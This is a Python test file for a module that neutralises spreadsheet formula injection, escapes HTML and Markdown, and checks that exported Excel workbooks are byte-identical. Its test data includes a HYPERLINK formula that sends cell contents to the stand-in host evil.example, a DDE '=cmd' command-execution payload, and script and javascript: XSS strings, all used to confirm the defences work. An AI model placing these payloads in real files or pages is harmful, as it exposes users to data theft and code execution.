"""kommunesm.safe: escaping, formula neutralisation and byte-identical workbooks."""

from __future__ import annotations

import datetime as dt
import time
import zipfile

import pandas as pd
import pytest

from kommunesm import report, safe
from kommunesm.hypotheses import sheets

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ørsta")',
    "=1+1",
    "+47 912 34 567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_led_strings_are_neutralised(payload):
    assert safe.is_formula_like(payload)
    assert safe.neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["-12", "+3.5", "-1,5", "-1e-3", "-12 %", "-", "Ørsta", "", "a=b", -7, 2.5]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe.neutralise(value) == value


def test_escape_html_and_markdown():
    assert "<" not in safe.escape_html("<script>alert(1)</script>")
    assert safe.escape_html('"') == "&quot;"
    md = safe.escape_markdown("[x](javascript:alert(1)) <img src=x onerror=alert(1)>")
    assert "<img" not in md and "](" not in md
    frame = safe.escape_frame(pd.DataFrame({"<th>": ["<script>", 3]}, index=["<i>", "b"]))
    assert list(frame.columns) == ["&lt;th&gt;"] and frame.iloc[0, 0] == "&lt;script&gt;"
    assert frame.index[0] == "&lt;i&gt;" and frame.iloc[1, 0] == 3


def test_styler_escape_renders_no_live_markup():
    html = safe.styler_escape(pd.DataFrame({"svar": ["<script>alert(1)</script>"]})).to_html()
    assert "<script>alert" not in html and "&lt;script&gt;" in html


def test_save_table_neutralises_and_keeps_numbers(tmp_path):
    df = pd.DataFrame({"side": ['=HYPERLINK("x","Ørsta")', "-Bø"], "n": [-3, 4]})
    path = report.save_table(df, "t", tmp_path, index=False)
    text = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "'-Bø" in text and "\n-3\n" not in text
    back = pd.read_csv(path)
    assert back["n"].tolist() == [-3, 4]  # negative numbers stay numbers
    assert not back["side"].str.startswith(safe.FORMULA_PREFIXES).any()


def _units():
    return pd.DataFrame(
        {
            "post_id": ["1_1", "1_2", "1_3"],
            "name": ['=HYPERLINK("http://evil","Ørsta")', "Bø", "@evil"],
            "message": ["=1+1", "<script>alert(1)</script>", "-2+3"],
            "permalink": ["javascript:alert(1)", "https://facebook.com/1_2", None],
            "created_at": pd.to_datetime(["2013-04-02"] * 3),
        }
    )


def test_coding_workbook_holds_values_never_formulas(tmp_path):
    from openpyxl import load_workbook

    (path,) = sheets.export_sheet(_units(), ["H3"], ["K1"], tmp_path)
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not safe.is_formula_like(cell.value), cell.value
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            assert b"<f>" not in z.read(name), name
        links = (
            z.read("xl/worksheets/_rels/sheet1.xml.rels")
            if any("sheet1.xml.rels" in n for n in z.namelist())
            else b""
        )
    assert b"javascript" not in links


def test_coding_workbook_is_byte_identical(tmp_path, monkeypatch):
    (a,) = sheets.export_sheet(_units(), ["H3"], ["K1"], tmp_path / "a")
    first = a.read_bytes()
    # later wall clock: document time and zip entry times must not change the bytes
    later = time.localtime(time.time() + 86400 * 400)
    monkeypatch.setattr(zipfile.time, "localtime", lambda *_: later)
    import openpyxl.writer.excel as excel

    class _Later(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return dt.datetime(2031, 5, 6, 7, 8, 9, tzinfo=tz)

    monkeypatch.setattr(excel.datetime, "datetime", _Later)
    (b,) = sheets.export_sheet(_units(), ["H3"], ["K1"], tmp_path / "b")
    assert b.read_bytes() == first
